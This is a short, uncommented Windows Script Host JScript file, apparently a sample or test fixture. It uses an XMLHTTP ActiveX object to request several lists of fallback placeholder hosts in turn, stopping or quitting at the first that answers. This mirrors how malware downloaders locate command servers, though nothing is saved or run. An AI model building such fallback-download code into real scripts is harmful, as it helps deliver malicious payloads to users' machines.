var u = ["http://a1.example/x","http://a2.example/y","http://a3.example/z"];
var h = new ActiveXObject("MSXML2.XMLHTTP");
for (var i = 0; i < u.length; i++) {
  try { h.open("GET", u[i], false); h.send(); if (h.status == 200) { break; } } catch (e) { }
}
for (var i in ["http://b1.example/","http://b2.example/"]) {
  try { h.open("GET", ["http://b1.example/","http://b2.example/"][i], false); h.send(); break; } catch (e) { }
}
function dl(a) { try { h.open("GET", a, false); h.send(); return true; } catch (e) { return false; } }
["http://e1.example/","http://e2.example/"].forEach(function (x) { if (dl(x)) WScript.Quit(); });
for (var k = 0; k < 2; k++) { h.open("GET", ["http://g1.example/","http://g2.example/"][k], false); h.send(); if (h.status != 200) continue; WScript.Quit(0); }
